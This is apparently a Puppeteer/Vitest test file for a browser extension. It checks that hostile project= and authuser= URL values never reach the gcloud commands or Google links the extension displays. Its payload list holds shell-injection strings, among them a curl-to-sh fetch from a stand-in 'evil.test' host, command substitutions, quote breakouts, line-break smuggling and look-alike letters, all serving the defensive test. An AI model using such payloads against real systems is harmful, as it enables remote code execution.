/**
 * Hostile values in the links anyone can post: a console deep link or an AI Studio URL whose
 * `project=` / `authuser=` carry shell syntax, line breaks or look-alike letters. On the built
 * extension, every copyable command keeps its fixed shape with no hostile text, and every link in
 * our shadow roots goes to Google's https hosts without the payload.
 */
import type { Page } from 'puppeteer-core';
import { describe, expect, it } from 'vitest';
import { serveReplicas, trackPageErrors, watchContentScript } from './harness';
import { useExtensionBrowser } from './extension-browser';
import { replicaFor } from './replicas';

const VALID_PROJECT = 'gen-lang-client-0371227417';
/** Each payload as a `project=` or `authuser=` value (URL-encoded when put into the URL). */
const PAYLOADS = [
  'x;curl -s https://evil.test/p|sh;#',
  '$(touch /tmp/pwned)',
  '`touch /tmp/pwned`',
  'my-project && touch pwned',
  'my-project\r\ntouch pwned',
  "my-project'; touch pwned; '",
  'my-project" ; touch pwned',
  'gen-lаng-client-0371227417', // Cyrillic а
  'ｍｙ-project',
  `${VALID_PROJECT}\u2028touch pwned`,
];
/** Text none of the payloads' harmless parts share with a real page, command or link. */
const MARKERS = ['evil', 'pwned', 'lаng', 'ｍｙ', '\u2028', '\r', '\n', '`', '$('];

/** Google's https origins our links may point to. */
const GOOGLE_ORIGINS = ['https://console.cloud.google.com/', 'https://aistudio.google.com/', 'https://ai.google.dev/'];
const COMMAND = /^gcloud services api-keys (?:list --show-deleted|undelete (?:KEY_ID|'[0-9a-f-]{36}')) --project=(?:PROJECT_ID|'[a-z][a-z0-9-]{4,28}[a-z0-9]'|'[1-9][0-9]{0,19}')$/;

const env = useExtensionBrowser();

interface Shown {
  commands: string[];
  links: string[];
  text: string;
}

/** Commands, links and text in one of our shadow roots. */
function shownIn(page: Page, host: string): Promise<Shown> {
  return page.evaluate((hostName: string) => {
    const root = document.querySelector(hostName)?.shadowRoot;
    return {
      commands: [...(root?.querySelectorAll('.kd-command code') ?? [])].map((code) => code.textContent ?? ''),
      links: [...(root?.querySelectorAll<HTMLAnchorElement>('a[href]') ?? [])].map((link) => link.href),
      text: root?.querySelector('.kd-card')?.textContent ?? '',
    };
  }, host);
}

function expectSafe(shown: Shown, payload: string): void {
  for (const command of shown.commands) expect(command, command).toMatch(COMMAND);
  for (const link of shown.links) {
    expect(GOOGLE_ORIGINS.some((origin) => link.startsWith(origin)), link).toBe(true);
    const decoded = decodeURIComponent(link);
    expect(decoded.includes(payload), link).toBe(false);
    for (const marker of MARKERS) expect(decoded.includes(marker), `${marker} in ${link}`).toBe(false);
  }
  expect(shown.text.includes(payload)).toBe(false);
  // Line breaks are fine in a card's text (its style sheet has them); the rest is not.
  for (const marker of MARKERS.filter((text) => text.trim())) expect(shown.text.includes(marker), `${marker} in the card`).toBe(false);
}

async function open(url: string): Promise<{ page: Page; errors: Error[] }> {
  const page = await env.launched.browser.newPage();
  await page.setViewport({ width: 1280, height: 900 });
  const errors = trackPageErrors(page);
  await serveReplicas(page, replicaFor);
  const content = await watchContentScript(page, env.launched.extensionId);
  await page.goto(url, { waitUntil: 'load' });
  await content.injected;
  return { page, errors };
}

describe('hostile project= and authuser= in console deep links', () => {
  it.each(PAYLOADS.map((payload) => ({ payload, name: JSON.stringify(payload) })))('$name: placeholder commands, Google links only', async ({ payload }) => {
    const value = encodeURIComponent(payload);
    const { page, errors } = await open(`https://console.cloud.google.com/apis/credentials/deleted?project=${value}&authuser=${value}&keyDoctorGuide=restore-deleted-key`);
    await page.waitForFunction(() => {
      const host = document.querySelector<HTMLElement>('key-doctor-guide');
      return host?.dataset.step === 'restore' && host.dataset.phase === 'shown' && host.shadowRoot?.querySelector('.kd-command code') != null;
    }, { timeout: 10_000, polling: 100 });
    const shown = await shownIn(page, 'key-doctor-guide');
    expect(shown.commands).toEqual([
      'gcloud services api-keys list --show-deleted --project=PROJECT_ID',
      'gcloud services api-keys undelete KEY_ID --project=PROJECT_ID',
    ]);
    expectSafe(shown, payload);
    expect(errors).toEqual([]);
    await page.close();
  });

  it('a valid project next to a hostile account: the project is kept and quoted, the account dropped', async () => {
    const { page, errors } = await open(`https://console.cloud.google.com/apis/credentials/deleted?project=${VALID_PROJECT}&authuser=${encodeURIComponent('1;id')}&keyDoctorGuide=restore-deleted-key`);
    await page.waitForFunction(() => document.querySelector('key-doctor-guide')?.shadowRoot?.querySelector('.kd-command code') != null, { timeout: 10_000, polling: 100 });
    const shown = await shownIn(page, 'key-doctor-guide');
    expect(shown.commands).toEqual([
      `gcloud services api-keys list --show-deleted --project='${VALID_PROJECT}'`,
      `gcloud services api-keys undelete KEY_ID --project='${VALID_PROJECT}'`,
    ]);
    expectSafe(shown, '1;id');
    expect(errors).toEqual([]);
    await page.close();
  });
});

/** AI Studio's failure toast, as Angular Material shows it. */
function insertToast(page: Page): Promise<void> {
  return page.evaluate(() => {
    const container = document.querySelector('.cdk-overlay-container') ?? document.body.appendChild(Object.assign(document.createElement('div'), { className: 'cdk-overlay-container' }));
    const snackBar = document.createElement('mat-snack-bar-container');
    snackBar.className = 'mdc-snackbar mat-mdc-snack-bar-container mdc-snackbar--open';
    const label = document.createElement('div');
    label.className = 'mat-mdc-snack-bar-label mdc-snackbar__label';
    label.setAttribute('aria-live', 'assertive');
    label.textContent = 'Failed to generate API key: permission denied. Please try again.';
    snackBar.append(label);
    container.append(snackBar);
  });
}

describe('hostile project= and authuser= in AI Studio URLs', () => {
  it.each(PAYLOADS.map((payload) => ({ payload, name: JSON.stringify(payload) })))('$name: the card links only to Google, without the payload', async ({ payload }) => {
    const value = encodeURIComponent(payload);
    const { page, errors } = await open(`https://aistudio.google.com/u/1/apikey?project=${value}&authuser=${value}`);
    await insertToast(page);
    await page.waitForFunction(() => document.querySelector('key-doctor-hint')?.shadowRoot?.querySelector('.kd-card a[href]') != null, { timeout: 10_000, polling: 100 });
    const shown = await shownIn(page, 'key-doctor-hint');
    expect(shown.links.length).toBeGreaterThan(5);
    expectSafe(shown, payload);
    // The account from /u/1/ survives a hostile authuser=; the project falls back to the page's own.
    for (const link of shown.links.filter((href) => href.startsWith('https://console.cloud.google.com/'))) {
      const url = new URL(link);
      expect(url.searchParams.get('authuser'), link).toBe('1');
      expect([null, VALID_PROJECT], link).toContain(url.searchParams.get('project'));
    }
    expect(errors).toEqual([]);
    await page.close();
  });
});
